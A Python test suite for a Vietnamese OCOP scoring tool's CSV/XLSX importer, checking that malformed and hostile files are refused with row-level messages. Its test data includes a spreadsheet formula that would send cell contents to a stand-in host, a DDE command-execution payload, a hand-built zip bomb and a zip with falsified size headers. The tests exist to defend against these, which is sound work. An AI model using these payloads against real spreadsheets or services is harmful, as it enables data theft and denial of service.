"""Importing a secretary's products and members lists: all or nothing, every problem named with its row."""

from __future__ import annotations

import importlib.util
import io
import struct
import zipfile
from pathlib import Path

import pytest

from ocop_scoring.errors import ImportFileError
from ocop_scoring.imports import read_members, read_members_data, read_products, read_products_data
from ocop_scoring.model import MemberSpec, ProductSpec

DATA = Path(__file__).parent / "data" / "imports"
EXAMPLES = Path(__file__).resolve().parents[1] / "examples"
ROLES_EXPECTED = "a role: Chủ tịch, Phó Chủ tịch, Thành viên, Ủy viên or Thư ký (or chair, member, secretary)"
SHEET_EXPECTED = (
    "a criteria sheet: its id (qd26-2026-01 … qd26-2026-26), its number in Phụ lục II (1 … 26) or its title"
)
INJECTION = "text that does not start with =, +, @ or - and a letter (a spreadsheet would run it as a formula)"
UTF8 = "UTF-8 text (in Excel: Save As → CSV UTF-8 (Comma delimited) (*.csv))"
PRODUCT_HEADER = "Mã sản phẩm,Tên sản phẩm,Bộ tiêu chí\n"


def product_problems(path: Path | str, library, **kwargs) -> list[str]:
    """The problems of a products file, as printed."""
    with pytest.raises(ImportFileError) as excinfo:
        read_products(path, library.sheets, **kwargs)
    assert excinfo.value.path == str(path)
    return [str(p) for p in excinfo.value.problems]


def member_problems(path: Path | str, **kwargs) -> list[str]:
    """The problems of a members file, as printed."""
    with pytest.raises(ImportFileError) as excinfo:
        read_members(path, **kwargs)
    return [str(p) for p in excinfo.value.problems]


def load_script(path: Path):
    """Import a script that is not part of the package."""
    spec = importlib.util.spec_from_file_location(path.stem, path)
    assert spec and spec.loader
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


# --- the example files -----------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["products.csv", "products.xlsx"])
def test_example_products_import(library, name):
    """Both example products lists import 13 products on 11 different sheets."""
    products = read_products(EXAMPLES / name, library.sheets)

    assert len(products) == 13
    assert len({p.sheet_id for p in products}) == 11
    assert products[2] == ProductSpec(
        product_id="LD26-03",
        name="Dâu tây sấy dẻo Đà Lạt",
        sheet_id="qd26-2026-07",
        product_code="68-24796-03-2026",
        producer="Cơ sở chế biến nông sản Hồng Phúc",
        commune="phường Lâm Viên - Đà Lạt",
        province="Lâm Đồng",
        dossier_notes="Bổ sung phiếu kiểm nghiệm chỉ tiêu vi sinh\nBổ sung ảnh nhãn mới",
    )


def test_example_csv_and_xlsx_agree(library):
    """The CSV and XLSX examples hold the same lists (the XLSX generates the member ids the CSV writes)."""
    assert read_products(EXAMPLES / "products.csv", library.sheets) == read_products(
        EXAMPLES / "products.xlsx", library.sheets
    )
    members = read_members(EXAMPLES / "members.csv")
    assert members == read_members(EXAMPLES / "members.xlsx")
    assert [(m.member_id, m.role) for m in members[:2]] == [("TV01", "chair"), ("TV02", "member")]
    assert members[-1] == MemberSpec(
        "TK01", "Ngô Thị Phương Thảo", "secretary", "Văn phòng Điều phối nông thôn mới tỉnh"
    )


def test_examples_are_what_the_script_writes(tmp_path, library):
    """examples/make_examples.py writes the committed CSV files byte for byte and workbooks with the same lists."""
    script = load_script(EXAMPLES / "make_examples.py")
    script.write_examples(tmp_path)

    for name in ("products.csv", "members.csv"):
        assert (tmp_path / name).read_bytes() == (EXAMPLES / name).read_bytes()
    assert read_products(tmp_path / "products.xlsx", library.sheets) == read_products(
        EXAMPLES / "products.xlsx", library.sheets
    )
    assert read_members(tmp_path / "members.xlsx") == read_members(EXAMPLES / "members.xlsx")


# --- layout: headers, title rows, sheets, cells ----------------------------------------------------


def test_english_header_aliases(library):
    """English headers in any case and spacing are accepted, and an unknown extra column is ignored."""
    products = read_products(DATA / "products_aliases.csv", library.sheets)

    assert [(p.product_id, p.sheet_id, p.province) for p in products] == [
        ("p-01", "qd26-2026-13", "Lâm Đồng"),
        ("P_02", "qd26-2026-10", "Đồng Nai"),
    ]


def test_title_rows_blank_rows_and_footer_are_skipped(library):
    """Title rows above the header, blank rows and a footer in the STT column are skipped; headers may wrap."""
    products = read_products(DATA / "products_title_rows.csv", library.sheets)

    assert [(p.product_id, p.sheet_id, p.product_code) for p in products] == [
        ("SP01", "qd26-2026-01", "83-29215-01-2026"),
        ("SP02", "qd26-2026-03", "94-31171-02-2026"),
        ("SP03", "qd26-2026-07", ""),
    ]


def test_semicolon_csv_and_sheet_title(library):
    """A CSV saved with ';' (Vietnamese regional settings) reads, and a sheet may be named by its title."""
    products = read_products(DATA / "products_semicolon.csv", library.sheets)

    assert [(p.producer, p.sheet_id) for p in products] == [
        ("Công ty TNHH Hưng Thịnh, Phú Quốc", "qd26-2026-09"),
        ("HTX Chè Suối Giàng", "qd26-2026-11"),
    ]


def test_sheet_numbers_ids_and_unknown_sheets(library):
    """7, 07 and the id name sheet 7; an unknown number, an unknown id and a blank cell are refused."""
    path = DATA / "products_sheets.csv"

    assert product_problems(path, library) == [
        f"{path}:7: Bộ tiêu chí: expected {SHEET_EXPECTED}, got '27'",
        f"{path}:8: Bộ tiêu chí: expected {SHEET_EXPECTED}, got 'qd26-2025-07'",
        f"{path}:9: Bộ tiêu chí: expected {SHEET_EXPECTED}, got an empty cell",
    ]


def test_sheet_number_mapping(tmp_path, library):
    """A sheet written as its number in Phụ lục II (7, 07, 7.0), its id in any case, or its title maps to its id."""
    path = tmp_path / "p.csv"
    rows = ["A1,x,7", "A2,x,07", "A3,x,7.0", "A4,x,QD26-2026-07", 'A5,x,"chế biến từ rau, củ, quả, hạt"']
    path.write_text(PRODUCT_HEADER + "\n".join(rows) + "\n", encoding="utf-8")

    assert {p.sheet_id for p in read_products(path, library.sheets)} == {"qd26-2026-07"}


def test_typed_workbook_values(library):
    """Typed numbers, an NFD name, spaces, a wrapped header and notes on two lines read sensibly from XLSX."""
    products = read_products(DATA / "products_typed.xlsx", library.sheets)

    assert products == [
        ProductSpec("101", "Bưởi da xanh", "qd26-2026-07", "83-29215-01-2026", dossier_notes="Đủ hồ sơ"),
        ProductSpec("102", "Xoài cát Hòa Lộc", "qd26-2026-01"),
        ProductSpec("SP-103", "Mứt gừng", "qd26-2026-07", dossier_notes="Bổ sung\nphiếu kiểm nghiệm"),
    ]


def test_missing_and_duplicate_columns(library):
    """A missing required column and a column given twice are each one problem on the header row."""
    path = DATA / "products_missing_column.csv"

    assert product_problems(path, library) == [
        f"{path}:1: header: expected a column 'Bộ tiêu chí' (or 'sheet'), got none in the header row",
        f"{path}:1: header: expected one column 'Tên sản phẩm' (or 'name'), got 'Tên sản phẩm' in column C and"
        " 'Tên sản phẩm' in column E",
    ]


def test_no_header_row(library):
    """A file without a header row in its first 10 rows is refused, showing its first row."""
    path = DATA / "products_no_header.csv"

    assert product_problems(path, library) == [
        f"{path}: header: expected a header row in the first 10 rows with the columns 'Mã sản phẩm', 'Tên sản phẩm',"
        " 'Bộ tiêu chí' (or product_id, name, sheet), got no such row; the first row is 'SP01,Bưởi da xanh,01'"
    ]


def test_members_list_given_as_products(library):
    """A members list offered as a products list names the product columns it lacks."""
    path = EXAMPLES / "members.xlsx"

    assert product_problems(path, library) == [
        f"{path}:4: header: expected a column 'Mã sản phẩm' (or 'product_id'), got none in the header row",
        f"{path}:4: header: expected a column 'Tên sản phẩm' (or 'name'), got none in the header row",
        f"{path}:4: header: expected a column 'Bộ tiêu chí' (or 'sheet'), got none in the header row",
    ]


def test_header_without_rows(library):
    """A header with nothing but blank rows below is refused."""
    path = DATA / "products_header_only.csv"

    assert product_problems(path, library) == [
        f"{path}:2: file: expected at least one row below the header, got no rows"
    ]


# --- products: every row problem at once -----------------------------------------------------------


def test_product_row_problems(library):
    """Empty name and id, an id used twice (any case), a bad id, a bad or repeated OCOP code: all listed at once."""
    path = DATA / "products_broken.csv"
    id_expected = "a product id of at most 40 ASCII letters, digits, '-', '_' or '.'"

    assert product_problems(path, library) == [
        f"{path}:3: Tên sản phẩm: expected the product's name, got an empty cell",
        f"{path}:4: Mã sản phẩm: expected a product id used once in the file (also on line 2), got 'sp01'",
        f"{path}:5: Mã sản phẩm: expected {id_expected}, got 'SP 04'",
        f"{path}:6: Mã OCOP: expected an OCOP code of four groups of digits joined by '-', the year last"
        " (e.g. 83-29215-01-2026), got '83-2921-2026'",
        f"{path}:8: Mã sản phẩm: expected the product's id, got an empty cell",
        f"{path}:9: Mã OCOP: expected a code used once in the file (also on line 2), got '83-29215-01-2026'",
        f"{path}:10: Mã sản phẩm: expected {id_expected}, got 'SP09-ĐẶC-SẢN'",
    ]


def test_existing_product_ids(library):
    """A product id already in the session is refused, ignoring case."""
    path = EXAMPLES / "products.csv"

    assert product_problems(path, library, existing_ids={"ld26-03", "LD26-13"}) == [
        f"{path}:4: Mã sản phẩm: expected a product id not already in the session, got 'LD26-03'",
        f"{path}:14: Mã sản phẩm: expected a product id not already in the session, got 'LD26-13'",
    ]


def test_id_too_long(tmp_path, library):
    """A product id over 40 characters is refused."""
    path = tmp_path / "p.csv"
    path.write_text(PRODUCT_HEADER + f"{'P' * 41},x,01\n", encoding="utf-8")

    assert product_problems(path, library) == [
        f"{path}:2: Mã sản phẩm: expected a product id of at most 40 ASCII letters, digits, '-', '_' or '.',"
        f" got '{'P' * 41}'"
    ]


# --- members ---------------------------------------------------------------------------------------


def test_roles_and_generated_member_ids():
    """Roles match without case or diacritics; blank ids become TV…/TK… in file order, skipping taken ids."""
    members = read_members(DATA / "members_roles.csv", existing_ids=["tv02"])

    assert [(m.member_id, m.role) for m in members] == [
        ("TV01", "chair"),
        ("TV04", "member"),  # TV02 is in the session, TV03 is written further down
        ("TV05", "member"),
        ("TK01", "secretary"),
        ("TV03", "member"),
        ("TV06", "member"),
        ("TK02", "secretary"),
    ]
    assert members[0] == MemberSpec("TV01", "Nguyễn Văn An", "chair", "UBND tỉnh")


def test_generated_ids_from_workbook():
    """A workbook with blank ids gets TV01… for the chair and members and TK01 for the secretary."""
    members = read_members(DATA / "members_blank_ids.xlsx", existing_ids=("TV01",))

    assert [(m.member_id, m.name) for m in members] == [
        ("TV02", "Nguyễn Văn An"),
        ("TK01", "Ngô Thị Lan"),
        ("TV03", "Trần Thị Bình"),
        ("TV04", "Lê Văn Cường"),
    ]


def test_member_row_problems():
    """Empty name, an id used twice, a second chair, an unknown or empty role: every problem at once."""
    path = DATA / "members_broken.csv"

    assert member_problems(path) == [
        f"{path}:3: Họ và tên: expected the member's full name, got an empty cell",
        f"{path}:4: Mã thành viên: expected a member id used once in the file (also on line 2), got 'TV01'",
        f"{path}:5: Vai trò: expected one chair (the chair is on line 2), got 'Chủ tịch hội đồng'",
        f"{path}:6: Vai trò: expected {ROLES_EXPECTED}, got 'Giám khảo'",
        f"{path}:7: Vai trò: expected {ROLES_EXPECTED}, got an empty cell",
        f"{path}:8: Vai trò: expected {ROLES_EXPECTED}, got 'Ủy viên thư ký'",
    ]


def test_existing_member_id():
    """A member id already in the session is refused."""
    path = EXAMPLES / "members.csv"

    assert member_problems(path, existing_ids=["TK01"]) == [
        f"{path}:11: Mã thành viên: expected a member id not already in the session, got 'TK01'"
    ]


# --- hostile and broken files ----------------------------------------------------------------------


def test_wrong_encoding(library):
    """A CSV in Windows-1258 is refused with the first bad byte and how to save as CSV UTF-8."""
    path = DATA / "products_cp1258.csv"

    assert product_problems(path, library) == [
        f"{path}:1: encoding: expected {UTF8}, got byte 0xde, which is not UTF-8 (an older Vietnamese encoding?)"
    ]


def test_utf16_text(library):
    """Excel's 'Unicode Text' (UTF-16) is refused as not UTF-8."""
    path = DATA / "products_utf16.csv"

    assert product_problems(path, library) == [
        f"{path}:1: encoding: expected {UTF8}, got UTF-16 text (Excel's 'Unicode Text')"
    ]


def test_utf8_with_and_without_bom(tmp_path, library):
    """UTF-8 with a byte-order mark (Excel's CSV UTF-8) and without it read the same."""
    text = PRODUCT_HEADER + "SP01,Bưởi,01\n"
    (tmp_path / "bom.csv").write_bytes(b"\xef\xbb\xbf" + text.encode())
    (tmp_path / "plain.csv").write_bytes(text.encode())

    assert read_products(tmp_path / "bom.csv", library.sheets) == read_products(tmp_path / "plain.csv", library.sheets)


@pytest.mark.parametrize(
    ("name", "got"),
    [
        ("garbage.csv", "binary data (an unrelated file?)"),
        ("not_a_workbook.xlsx", "a text file named .xlsx (a CSV? rename it to .csv)"),
        ("truncated.xlsx", "a damaged or incomplete workbook (open it in Excel and save it again)"),
        ("spreadsheet.ods.xlsx", "a zip archive that is not an Excel workbook"),
        ("workbook_named.csv", "an Excel workbook named .csv; rename it to .xlsx, or save it as CSV UTF-8"),
        (
            "old_excel.xls",
            "an Excel 97-2003 (.xls) or password-protected workbook; save it as Excel Workbook (.xlsx) without a"
            " password, or as CSV UTF-8",
        ),
    ],
)
def test_files_that_are_not_what_they_say(library, name, got):
    """Garbage, a CSV named .xlsx, a truncated workbook, another zip, a workbook named .csv, an old .xls: refused."""
    path = DATA / name
    expected = {
        "garbage.csv": "a CSV text file or an Excel workbook (.xlsx)",
        "workbook_named.csv": "a CSV text file",
        "old_excel.xls": "a .xlsx workbook or a CSV UTF-8 file",
    }.get(name, "an Excel workbook (.xlsx)")

    assert product_problems(path, library) == [f"{path}: file: expected {expected}, got {got}"]


def test_missing_empty_and_folder(tmp_path, library):
    """A missing file, an empty file and a folder are each one problem."""
    (tmp_path / "empty.csv").write_bytes(b"\xef\xbb\xbf\r\n")

    assert product_problems(tmp_path / "nope.csv", library) == [
        f"{tmp_path / 'nope.csv'}: file: expected a readable file, got no such file"
    ]
    assert product_problems(tmp_path / "empty.csv", library) == [
        f"{tmp_path / 'empty.csv'}: file: expected a products list with a header row, got an empty file"
    ]
    assert product_problems(tmp_path, library) == [f"{tmp_path}: file: expected a readable file, got a folder"]


def test_formulas_in_workbook(library):
    """Formulas and error values in imported cells are refused, and so is text starting with '@'."""
    path = DATA / "products_formulas.xlsx"

    assert product_problems(path, library) == [
        f"{path}:2: Tên sản phẩm: expected a typed value, not a formula, got '=UPPER(\"bưởi da xanh\")'",
        f'{path}:3: Bộ tiêu chí: expected a typed value, not a formula, got \'="qd26-2026-"&"01"\'',
        f"{path}:4: Chủ thể: expected a value, not an Excel error, got '#N/A'",
        f"{path}:5: Chủ thể: expected {INJECTION}, got '@SUM(A1:A3)'",
    ]


def test_formula_injection_in_csv(library):
    """CSV cells starting with =, +, @ or - and a letter are refused, naming the cell; '-5%' is fine."""
    path = DATA / "products_injection.csv"

    assert product_problems(path, library) == [
        f'{path}:2: Tên sản phẩm: expected {INJECTION}, got \'=HYPERLINK("http://x.example/?"&A1,"Xem")\'',
        f"{path}:3: Chủ thể: expected {INJECTION}, got '+84 912 345 678'",
        f"{path}:4: Chủ thể: expected {INJECTION}, got '@SUM(A1:A3)'",
        f"{path}:5: Ghi chú hồ sơ: expected {INJECTION}, got \"-cmd|' /C calc'!A0\"",
    ]


def test_control_characters(library):
    """Control characters and a right-to-left override are refused, shown escaped; a tab is a space."""
    path = DATA / "products_control.csv"

    assert product_problems(path, library) == [
        f"{path}:2: Tên sản phẩm: expected text without control characters, got U+0007 at character 5 of"
        " 'Bưởi\\x07 da xanh'",
        f"{path}:2: Chủ thể: expected text without control characters, got U+001B at character 4 of 'HTX\\x1b[31m A'",
        f"{path}:3: Tên sản phẩm: expected text without control characters, got U+202E at character 5 of"
        " 'Xoài\\u202e cát'",
    ]


def test_long_cells(tmp_path, library):
    """Cells over 1,000 characters are refused, showing 60 characters and the length."""
    path = tmp_path / "p.csv"
    path.write_text(PRODUCT_HEADER + f"SP01,{'a' * 1001},01\nSP02,{'b' * 1000},01\n", encoding="utf-8")

    assert product_problems(path, library) == [
        f"{path}:2: Tên sản phẩm: expected at most 1,000 characters, got 1,001 characters starting '{'a' * 60}…'"
    ]


@pytest.mark.timeout(60)  # a guard against a hang, not a speed target
def test_ten_megabyte_cell_in_csv(tmp_path, library):
    """A 10 MB cell is refused without echoing it, and the rows after it are still checked."""
    path = tmp_path / "p.csv"
    path.write_text(PRODUCT_HEADER + f"SP01,{'x' * 10 * 2**20},01\nSP02,Xoài,99\n", encoding="utf-8")

    found = product_problems(path, library)

    assert found == [
        f"{path}:2: Tên sản phẩm: expected at most 1,000 characters, got 10,485,760 characters starting '{'x' * 60}…'",
        f"{path}:3: Bộ tiêu chí: expected {SHEET_EXPECTED}, got '99'",
    ]
    assert all(len(p) < 400 for p in found)


def test_huge_quoted_multiline_cell(tmp_path, library):
    """A 2 MB quoted cell over several lines counts as one row; the next rows keep their numbers."""
    path = tmp_path / "p.csv"
    half = "y" * 2**20
    path.write_text(PRODUCT_HEADER + f'SP01,"{half}\n""{half}",01\nSP02,"Xoài ""cát""",27\n', encoding="utf-8")

    assert product_problems(path, library) == [
        f"{path}:2: Tên sản phẩm: expected at most 1,000 characters, got 2,097,154 characters starting '{'y' * 60}…'",
        f"{path}:3: Bộ tiêu chí: expected {SHEET_EXPECTED}, got '27'",
    ]


def test_long_cell_in_workbook(tmp_path, library):
    """A workbook cell as long as Excel allows (32,767 characters) is refused, clipped."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Mã sản phẩm", "Tên sản phẩm", "Bộ tiêu chí"])
    book.active.append(["SP01", "z" * 32767, 1])
    path = tmp_path / "p.xlsx"
    book.save(path)

    assert product_problems(path, library) == [
        f"{path}:2: Tên sản phẩm: expected at most 1,000 characters, got 32,767 characters starting '{'z' * 60}…'"
    ]


def test_file_over_20_mb(tmp_path, library):
    """A file over 20 MB is refused before it is read."""
    path = tmp_path / "p.csv"
    with path.open("wb") as handle:
        handle.truncate(20 * 2**20 + 1)

    assert product_problems(path, library) == [
        f"{path}: file: expected a file of at most 20 MB (20,971,520 bytes), got 20,971,521 bytes"
    ]


def test_zip_bomb(tmp_path, library):
    """A small workbook that would unpack to 250 MB is refused before anything is inflated."""
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/workbook.xml", "<workbook/>")
        with archive.open("xl/worksheets/sheet1.xml", "w") as part:
            for _ in range(250):
                part.write(b" " * 2**20)
    assert path.stat().st_size < 2**20

    assert product_problems(path, library) == [
        f"{path}: file: expected a workbook that unpacks to at most 200 MB, got 250 MB unpacked (a zip bomb?)"
    ]


def test_zip_that_lies_about_its_size(tmp_path, library):
    """A workbook part declared as 1,000 bytes that inflates to 20 MB is cut there and refused as damaged."""
    source = zipfile.ZipFile(EXAMPLES / "products.xlsx")
    raw = io.BytesIO()
    target = "xl/worksheets/sheet1.xml"
    with zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as archive:
        for info in source.infolist():
            if info.filename == target:
                with archive.open(target, "w") as part:
                    part.write(b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">')
                    for _ in range(20):
                        part.write(b" " * 2**20)
            else:
                archive.writestr(info.filename, source.read(info))
    data = bytearray(raw.getvalue())
    for signature, size_at, name_length_at, header_size in ((b"PK\x03\x04", 22, 26, 30), (b"PK\x01\x02", 24, 28, 46)):
        at = data.find(signature)
        while at >= 0:
            length = struct.unpack_from("<H", data, at + name_length_at)[0]
            if data[at + header_size : at + header_size + length] == target.encode():
                struct.pack_into("<I", data, at + size_at, 1000)
            at = data.find(signature, at + 4)
    path = tmp_path / "lying.xlsx"
    path.write_bytes(bytes(data))

    [problem] = product_problems(path, library)
    assert problem.startswith(
        f"{path}: file: expected an Excel workbook (.xlsx) that Excel can open, got a damaged workbook ("
    )


def test_workbook_over_100000_rows(tmp_path, library):
    """A worksheet with a row numbered over 100,000 is refused without reading on."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["Mã sản phẩm", "Tên sản phẩm", "Bộ tiêu chí"])
    book.active.append(["SP01", "Bưởi", 1])
    book.active.cell(row=100_001, column=1, value="SP99")
    path = tmp_path / "rows.xlsx"
    book.save(path)

    assert product_problems(path, library) == [
        f"{path}: file: expected a worksheet of at most 100,000 rows, got a row numbered 100,001"
    ]


def test_csv_over_100000_rows(tmp_path, library):
    """A CSV with more than 100,000 rows is refused."""
    path = tmp_path / "rows.csv"
    path.write_text(PRODUCT_HEADER + "".join(f"S{i},x,01\n" for i in range(100_000)), encoding="utf-8")

    assert product_problems(path, library) == [
        f"{path}: file: expected a file of at most 100,000 rows, got a row numbered 100,001"
    ]


def test_problem_list_is_capped(tmp_path, library):
    """A file with thousands of bad rows lists 200 problems and counts the rest."""
    path = tmp_path / "p.csv"
    path.write_text(PRODUCT_HEADER + "".join(f"S{i},x,99\n" for i in range(1000)), encoding="utf-8")

    found = product_problems(path, library)

    assert len(found) == 201
    assert found[0] == f"{path}:2: Bộ tiêu chí: expected {SHEET_EXPECTED}, got '99'"
    assert found[-1] == f"{path}: …: expected fewer problems, got 800 more not shown"


def test_nothing_else_is_ever_raised(tmp_path, library):
    """Truncations and byte flips of a valid workbook and CSV raise ImportFileError or read; nothing else."""
    workbook = (EXAMPLES / "products.xlsx").read_bytes()
    text = (EXAMPLES / "products.csv").read_bytes()
    variants = [workbook[:n] for n in range(0, len(workbook), 397)]
    variants += [workbook[:n] + bytes([workbook[n] ^ 0xFF]) + workbook[n + 1 :] for n in range(30, len(workbook), 211)]
    variants += [text[:n] for n in range(0, len(text), 53)]
    for i, data in enumerate(variants):
        path = tmp_path / f"v{i}.{'xlsx' if data[:2] == b'PK' else 'csv'}"
        path.write_bytes(data)
        try:
            read_products(path, library.sheets)
        except ImportFileError as exc:
            assert exc.problems


# --- uploaded files (the secretary's page) -----------------------------------------------------------


@pytest.mark.parametrize("name", ["products.csv", "products.xlsx"])
def test_uploaded_products_read_like_the_file(library, name):
    """The bytes of an uploaded products list give exactly what the file gives."""
    data = (EXAMPLES / name).read_bytes()

    assert read_products_data(data, name, library.sheets) == read_products(EXAMPLES / name, library.sheets)


@pytest.mark.parametrize("name", ["members.csv", "members.xlsx"])
def test_uploaded_members_read_like_the_file(name):
    """The bytes of an uploaded members list give exactly what the file gives, existing ids included."""
    data = (EXAMPLES / name).read_bytes()

    assert read_members_data(data, name) == read_members(EXAMPLES / name)
    assert read_members_data(memoryview(data), name, existing_ids=["tv10"]) == read_members(
        EXAMPLES / name, existing_ids=["tv10"]
    )


def test_uploaded_file_problems_name_the_upload(library):
    """Problems name the uploaded file by its last part only (the browser may send a Windows path)."""
    data = "Mã sản phẩm,Tên sản phẩm,Bộ tiêu chí\nP1,Bưởi,99\n".encode()

    with pytest.raises(ImportFileError) as excinfo:
        read_products_data(data, "C:\\Users\\thu ky\\san pham.csv", library.sheets)

    assert [str(p) for p in excinfo.value.problems] == [
        f"san pham.csv:2: Bộ tiêu chí: expected {SHEET_EXPECTED}, got '99'"
    ]


def test_uploaded_file_checks_like_a_file(library):
    """An upload over 20 MB, or a workbook named .csv, is refused as the file would be."""
    with pytest.raises(ImportFileError) as big:
        read_members_data(b"x" * (20 * 2**20 + 1), "members.csv")
    with pytest.raises(ImportFileError) as disguised:
        read_products_data((EXAMPLES / "products.xlsx").read_bytes(), "products.csv", library.sheets)

    assert [str(p) for p in big.value.problems] == [
        "members.csv: file: expected a file of at most 20 MB (20,971,520 bytes), got 20,971,521 bytes"
    ]
    assert "an Excel workbook named .csv" in str(disguised.value.problems[0])
